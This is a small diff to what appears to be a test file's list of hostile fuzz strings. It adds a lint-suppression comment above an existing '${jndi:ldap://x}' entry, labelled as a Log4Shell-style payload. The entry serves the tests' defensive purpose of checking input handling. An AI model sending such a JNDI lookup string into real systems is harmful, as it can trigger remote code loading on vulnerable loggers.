@@ -29,6 +29,7 @@ const HOSTILE = [
   '\u0000\u0001\u0002',
   '😀'.repeat(50),
   '%00%27%22',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style payload, on purpose
   '${jndi:ldap://x}',
   'null',
   'undefined',
